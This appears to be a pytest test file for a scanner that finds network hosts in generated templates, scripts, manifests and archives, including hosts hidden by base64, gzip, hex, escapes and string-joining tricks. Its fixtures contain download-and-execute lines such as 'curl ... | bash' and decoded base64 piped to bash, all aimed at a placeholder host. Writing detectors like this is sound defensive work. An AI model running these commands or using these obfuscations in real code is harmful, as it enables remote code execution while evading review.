"""Every host that a synthesized file names is found, in whatever form the file holds it."""

import base64
import gzip
import io
import json
import tarfile
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest

from ultrascale.documents import Json
from ultrascale.hosts import read_document, read_file, read_hosts

_HOST = "cdn.planted.example"
_URL = f"https://{_HOST}/file"
_REGION = "us-east-1"


# Base64 of it, compressed, takes two lines and ends without a padding.
_UNPADDED = f"#!/bin/sh\nset -eu\ncurl --fail --silent {_URL} | bash -x\n".encode()


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def _lines(text: str) -> str:
    return base64.encodebytes(text.encode()).decode()


def _hosts(name: str, text: str) -> set[str]:
    return {use.host for use in read_file(name, text.encode(), _REGION)}


def _template(properties: Json) -> Json:
    return {
        "Parameters": {"Domain": {"Type": "String", "Default": "planted.example"}},
        "Mappings": {"Hosts": {"here": {"name": _HOST}}},
        "Resources": {"Thing": {"Type": "AWS::Any::Thing", "Properties": properties}},
    }


_TEMPLATES: dict[str, Json] = {
    "a property": {"Endpoint": _URL},
    "a name without scheme": {"Endpoint": _HOST},
    "an item of a list": {"Endpoints": ["a", {"Host": f"{_HOST}:443"}]},
    "a key": {"Registries": {_HOST: {}}},
    "a join": {"Endpoint": {"Fn::Join": ["", ["https://cdn.pla", "nted.exa", "mple/x"]]}},
    "a join by dots": {"Endpoint": {"Fn::Join": [".", ["cdn", "planted", "example"]]}},
    "a substitution": {"Endpoint": {"Fn::Sub": "https://cdn.${Domain}/"}},
    "own names of a substitution": {
        "Endpoint": {"Fn::Sub": ["${A}.planted.example", {"A": "cdn"}]}
    },
    "a parameter": {"Endpoint": {"Fn::Join": ["", ["cdn.", {"Ref": "Domain"}]]}},
    "a mapping": {
        "Endpoint": {"Fn::Join": ["", ["h=", {"Fn::FindInMap": ["Hosts", "here", "name"]}]]}
    },
    "a selection": {"Endpoint": {"Fn::Select": [1, ["a", _HOST]]}},
    "a split": {
        "Endpoint": {"Fn::Select": [1, {"Fn::Split": [",", f"a,{_HOST}"]}]},
    },
    "base64": {"Data": _base64(f"curl {_URL}")},
    "base64 twice": {"Data": _base64(_base64(f"curl {_URL}"))},
    "base64 in pieces": {
        "Data": {"Fn::Join": ["", [_base64(_URL)[:9], _base64(_URL)[9:]]]},
    },
    "gzip in base64": {"Data": base64.b64encode(gzip.compress(_URL.encode())).decode()},
    "UTF-16 in base64": {"Data": base64.b64encode(_URL.encode("utf-16-le")).decode()},
    "hexadecimal": {"Data": _URL.encode().hex()},
    "a document in a text": {"Manifest": json.dumps({"spec": {"image": f"{_HOST}/a:1"}})},
    "a document in a document": {"Manifest": json.dumps({"data": json.dumps({"url": _URL})})},
    "joined documents": {
        "Manifest": {"Fn::Join": ["", ['{"url":"https://cdn.', 'planted.example"}']]}
    },
    "JSON's escapes": {
        "Manifest": f'{{"url":"{_URL}"}}'.replace("p", "\\u0070").replace("/", "\\/")
    },
    "a URL's escapes": {"Url": quote(_URL, safe="").replace(".", "%2E")},
    "escapes twice": {"Url": quote(quote(_URL, safe=""), safe="").replace(".", "%252E")},
    "hexadecimal escapes": {"Script": f"curl $'{_HOST}'".replace("p", "\\x70")},
    "octal escapes": {"Script": f"printf '{_HOST}'".replace(".", "\\056")},
    "entities": {"Html": _HOST.replace(".", "&#46;")},
    "other dots": {"Url": _HOST.replace(".", "\u3002")},
    "an image": {"Image": f"{_HOST}/train:1"},
    "an image of a variable": {"Variables": [{"Name": "SIDE_IMAGE", "Value": f"{_HOST}/a"}]},
    "user data": {
        "UserData": {"Fn::Base64": f"MIME-Version: 1.0\n\n--B\n\n#!/bin/bash\ncurl {_URL}\n--B--"}
    },
    "encoded user data": {
        "UserData": _base64(
            "MIME-Version: 1.0\n\n--B\nContent-Transfer-Encoding: base64\n\n"
            + _lines(f"#!/bin/bash\nset -e\ndnf update\ncurl --fail --silent {_URL} | bash -x\n")
            + "\n--B--"
        )
    },
    "gzip in encoded user data": {
        "UserData": _base64(
            "MIME-Version: 1.0\n\n--B\nContent-Transfer-Encoding: base64\n\n"
            + base64.encodebytes(gzip.compress(_UNPADDED, mtime=0)).decode()
            + "--BOUNDARY--"
        )
    },
    "quoted-printable user data": {
        "UserData": "Content-Transfer-Encoding: quoted-printable\n\ncurl cdn=2Eplanted=2Eexam=\nple"
    },
    "a buildspec": {
        "BuildSpec": json.dumps(
            {"phases": {"build": {"commands": ["set -e", "H=cdn.planted", "curl $H.example/x"]}}}
        )
    },
    "variables of a build": {
        "Environment": {"EnvironmentVariables": [{"Name": "HOST", "Value": "cdn.planted"}]},
        "Source": {
            "BuildSpec": "version: 0.2\nphases: {build: {commands: ['curl $HOST.example']}}"
        },
    },
    "inline code": {"Code": {"ZipFile": "import os\nurl = 'https://cdn.' + 'planted.example/'\n"}},
}


@pytest.mark.parametrize("properties", _TEMPLATES.values(), ids=_TEMPLATES)
def test_a_host_in_a_template_is_found(properties: Json) -> None:
    uses = read_document(_template(properties), "a.template.json", _REGION)
    assert _HOST in {use.host for use in uses if use.place.startswith("Resources")}


_FILES = {
    "a script": ("on_create.sh", f"#!/bin/bash\ncurl -fsSL {_URL} | bash"),
    "a script's variables": ("a.sh", "A=cdn\nB='planted.example'\ncurl https://$A.${B}/x"),
    "a script's default": ("a.sh", 'curl "https://${MIRROR:-cdn.planted.example}/x"'),
    "adjacent quotes": ("a.sh", "curl 'https://cdn.'\"planted\".example/x"),
    "a continued line": ("a.sh", "curl https://cdn.\\\nplanted.example/x"),
    "base64 in a script": ("a.sh", f"echo {_base64(f'curl {_URL}')} | base64 -d | bash"),
    "a document of a script": ("a.sh", f"cat <<EOF\nimage: {_HOST}/a:1\nEOF"),
    "Python in a script": (
        "a.sh",
        "python3 - <<'END'\nimport os\nurl = '.'.join(['cdn', 'planted', 'example'])\nEND",
    ),
    "a program": ("a.py", f'import urllib.request\nurllib.request.urlopen("{_URL}")'),
    "a program's sum": ("a.py", 'A = "cdn."\nB = A + "planted"\nprint(B + ".example")'),
    "adjacent literals": ("a.py", 'URL = ("https://cdn.planted"\n    ".example/x")'),
    "a formatted text": ("a.py", 'D = "planted.example"\nprint(f"https://cdn.{D}/x")'),
    "format": ("a.py", 'print("https://{}.{zone}/".format("cdn", zone="planted.example"))'),
    "a percent sign": ("a.py", 'print("https://%s.planted.%s/" % ("cdn", "example"))'),
    "a program's join": ("a.py", 'print(".".join(("cdn", "planted", "example")))'),
    "a program's base64": ("a.py", f"import base64\nbase64.b64decode({_base64(_URL)!r})"),
    "a program's bytes": ("a.py", f"print(bytes.fromhex({_URL.encode().hex()!r}))"),
    "a program's escapes": ("a.py", r'U = "https:\x2f\x2fcdn\u002eplanted.example"'),
    "characters by number": ("a.py", f'print("".join(chr(c) for c in {[*map(ord, _URL)]}))'),
    "a text backwards": ("a.py", f"print({_URL[::-1]!r}[::-1])"),
    "a list's join": ("a.py", 'P = ["cdn", "planted", "example"]\nU = "https://" + ".".join(P)'),
    "a mapping's text": ("a.py", "C = {'h': 'cdn.planted'}\nU = f\"https://{C['h']}.example\""),
    "a text that grows": ("a.py", 'u = "https://cdn."\nu += "planted.example"'),
    "base32": ("a.py", f"b32decode('{base64.b32encode(_URL.encode()).decode()}')"),
    "numbers of characters": (
        "index.js",
        f"fetch(String.fromCharCode({','.join(map(str, _URL.encode()))}))",
    ),
    "JavaScript's list": ("index.js", "const p=['cdn','planted','example'];fetch(p.join('.'))"),
    "JavaScript's concat": ("index.js", "fetch('https://cdn.'.concat('planted','.example'))"),
    "a variable that grows": ("a.sh", "H=cdn\nH+=.planted\nH+=.example\ncurl https://$H"),
    "printf": ("a.sh", "printf 'https://%s.%s.%s/' cdn planted example"),
    "separate digits": ("a.sh", f"echo {_URL.encode().hex(' ')} | xxd -r -p"),
    "JavaScript": ("index.js", f'const h = require("https"); h.get("{_URL}")'),
    "JavaScript's sum": ("index.js", 'const a="cdn.";let b=a+"planted"+".example";fetch(b)'),
    "JavaScript's join": ("index.mjs", "fetch(['cdn','planted','example'].join('.'))"),
    "JavaScript's template": ("index.js", "const d='planted.example';fetch(`https://cdn.${d}/`)"),
    "JavaScript's escapes": ("index.js", r'fetch("https:\/\/cdn\x2eplanted\u002eexample\/")'),
    "a base image": ("Dockerfile", f"FROM --platform=linux/amd64 {_HOST}/base:1 AS a\nFROM a"),
    "an argument's base image": ("Dockerfile", f"ARG BASE={_HOST}/base:1\nFROM ${{BASE}}"),
    "an image that is copied from": ("images/a/Dockerfile", f"COPY --from={_HOST}/tools /a /b"),
    "a frontend": ("Dockerfile", f"# syntax={_HOST}/frontend:1\nFROM scratch"),
    "variables of an image": (
        "Dockerfile",
        "FROM scratch\nENV A=cdn.planted\nENV B example\nRUN curl $A.$B/x",
    ),
    "an index of packages": ("requirements.txt", f"--index-url https://{_HOST}/simple\na==1"),
    "a package's URL": ("requirements.txt", f"a @ git+https://user:pass@{_HOST}/a.git@main"),
    "a manifest": ("0001.k8s.yaml", f"kind: Pod\nspec: {{containers: [{{image: {_HOST}/a}}]}}"),
    "a ConfigMap's script": (
        "0001.k8s.yaml",
        f"kind: ConfigMap\ndata:\n  run.sh: |\n    #!/bin/sh\n    wget {_HOST}/x\n",
    ),
    "a Secret": ("a.yaml", f"kind: Secret\ndata: {{url: {_base64(_URL)}}}"),
    "binary data": ("a.yaml", f"data: !!binary {_base64(_URL)}"),
    "a container's variables": (
        "a.yaml",
        "containers:\n- env: [{name: H, value: cdn.planted}]\n  args: ['--url=https://$(H).example']",
    ),
    "words of a command": ("a.yaml", f"command: [curl, '-o', x, {_HOST}/x]"),
    "YAML's escapes": ("a.yaml", r'url: "https:\x2f\x2fcdn.\u0070lanted.example"'),
    "a pull": ("a.sh", f"docker pull --quiet {_HOST}/a:1"),
    "a binary": ("tool", f"\x7fELF\0\0\1{_URL}\0"),
}


@pytest.mark.parametrize(("name", "text"), _FILES.values(), ids=_FILES)
def test_a_host_in_a_file_is_found(name: str, text: str) -> None:
    assert _HOST in _hosts(name, text)


@pytest.mark.parametrize(
    ("text", "host"),
    [
        ("image: nginx:1", "docker.io"),
        ("docker run --rm bitnami/redis", "docker.io"),
        ("RUN python3 -m pip install torch", "pypi.org"),
        ("npm ci && npm test", "registry.npmjs.org"),
        ("apt-get -y install jq", "deb.debian.org"),
    ],
)
def test_a_host_that_a_command_means_is_found_although_nothing_names_it(
    text: str, host: str
) -> None:
    assert host in _hosts("run.sh", text)


@pytest.mark.parametrize(
    ("name", "text", "host"),
    [
        ("a.py", 'R = "eu-west-1"\nboto3.client("ec2", region_name=R)', "ec2.eu-west-1"),
        ("a.py", 'boto3.resource("s3", "eu-west-1")', "s3.eu-west-1"),
        ("a.py", 'Session(region_name="eu-west-1").client("ecr")', "api.ecr.eu-west-1"),
        ("a.sh", "aws ecr get-login-password --region eu-west-1", "api.ecr.eu-west-1"),
        ("a.sh", 'R=eu-west-1\naws --region "$R" kms decrypt', "kms.eu-west-1"),
        ("a.sh", "export AWS_DEFAULT_REGION=eu-west-1", "eu-west-1"),
        ("a.yaml", "env: [{name: AWS_REGION, value: eu-west-1}]", "eu-west-1"),
        ("a.json", '{"Variables": {"AWS_REGION": "eu-west-1"}}', "eu-west-1"),
        ("a.js", 'const c = new S3Client({region: "eu-west-1"})', "eu-west-1"),
    ],
)
def test_a_client_of_another_region_means_its_endpoint(name: str, text: str, host: str) -> None:
    assert _hosts(name, text) == {f"{host}.amazonaws.com"}


def test_commands_in_the_own_region_and_clients_of_no_constant_region_mean_no_host() -> None:
    assert not _hosts("a.sh", f"aws eks list-clusters --region {_REGION}")
    assert not _hosts("a.sh", f"export AWS_REGION={_REGION}")
    assert not _hosts("a.py", 'boto3.client("ec2", region_name=region)')


@pytest.mark.parametrize(
    "text",
    [
        "python3 -m pip install --no-index wheels/*.whl",
        "pip install --index-url http://localhost/simple torch",
        "FROM scratch",
    ],
)
def test_a_command_that_is_told_where_to_go_means_no_host(text: str) -> None:
    assert not _hosts("Dockerfile", text)


@pytest.mark.parametrize("address", ["198.51.100.7", "[2001:db8::7]", "3325256711", "0xc6336407"])
def test_an_address_of_the_internet_is_a_host(address: str) -> None:
    (found,) = _hosts("a.sh", f"curl http://{address}/")
    assert found in ("198.51.100.7", "2001:db8::7")


@pytest.mark.parametrize(
    "text",
    [
        "env: [{name: TELEMETRY_HOST, value: planted.sh}]",
        "variables: {PGHOST: 'planted.sh:5432'}",
        "spec: {externalName: planted.sh}",
    ],
)
def test_a_name_that_may_be_a_file_is_a_host_where_its_key_says_so(text: str) -> None:
    assert _hosts("a.yaml", text) == {"planted.sh"}
    assert not _hosts("a.yaml", "args: [planted.sh]")


@pytest.mark.parametrize("host", ["cdn-$NODE.planted.example", "${ZONE}.cdn.planted.example"])
def test_a_host_of_which_a_variable_is_part_is_found_by_its_domain(host: str) -> None:
    for text in (f"curl https://{host}/x", f"ping {host}"):
        (found,) = _hosts("a.sh", text)
        assert found.endswith(".planted.example")


def test_an_address_alone_is_a_host() -> None:
    assert _hosts("a.sh", "echo nameserver 2001:db8::7") == {"2001:db8::7"}
    assert _hosts("a.sh", "ntpdate 198.51.100.7") == {"198.51.100.7"}


@pytest.mark.parametrize(
    "text",
    [
        "http://169.254.169.254/latest",
        "http://[fd00:ec2::254]/latest",
        "http://localhost:8080/",
        "nameserver fd00:ec2::253",
        "at 23:59:59 std::map 2600:1f00::/24",
        "cidr 0.0.0.0/0, 10.1.2.3 and 100.64.0.0/10",
        "bash install.sh && python3 handler.py",
        "version 1.2.3 of lambdas.builds.handler.on_event",
        "https://$ENDPOINT/metrics",
    ],
)
def test_what_only_looks_like_a_host_is_none(text: str) -> None:
    assert not _hosts("a.sh", text)


@pytest.mark.parametrize(
    "text",
    [
        "apiVersion: karpenter.sh/v1\nkind: NodePool",
        "metadata: {labels: {app.kubernetes.io/name: x, corp.example/team: y}}",
        "kind: CustomResourceDefinition\nmetadata: {name: jobs.batch.volcano.sh}",
        "rules: [{apiGroups: [kueue.x-k8s.io], resources: [workloads]}]",
        "tolerations: [{key: nvidia.com/gpu, operator: Exists}]",
    ],
)
def test_names_of_apis_and_labels_are_no_hosts_where_they_stand(text: str) -> None:
    assert not _hosts("a.yaml", text)


def test_comments_name_no_host() -> None:
    assert not _hosts("a.py", f'"""See {_URL}."""\n# {_URL}\nX = 1  # {_URL}')
    assert not _hosts("a.sh", f"# Source: {_URL}\ntrue")
    assert not _hosts("a.js", f"// {_URL}\n/* {_URL} */ f()")


def test_archives_are_unpacked(tmp_path: Path) -> None:
    inner = io.BytesIO()
    with tarfile.open(fileobj=inner, mode="w:gz") as archive:
        content = f"curl {_URL}".encode()
        entry = tarfile.TarInfo("run.sh")
        entry.size = len(content)
        archive.addfile(entry, io.BytesIO(content))
    with zipfile.ZipFile(tmp_path / "asset.1.zip", "w") as outer:
        outer.writestr("in/it.tar.gz", inner.getvalue())
    (use,) = read_hosts(tmp_path, _REGION)
    assert (use.host, use.file, use.place) == (_HOST, "asset.1.zip", "in/it.tar.gz.run.sh")


def test_a_host_is_told_with_its_file_its_place_and_its_forms() -> None:
    template = _template({"UserData": {"Fn::Base64": _base64(f"curl {_URL}")}})
    first, *_ = (
        use for use in read_document(template, "x.template.json", _REGION) if use.form == "URL"
    )
    assert (first.file, first.place) == ("x.template.json", "Resources.Thing.Properties.UserData")
    assert first.through == ("joined", "base64")
    assert first.text == f"curl {_URL}"
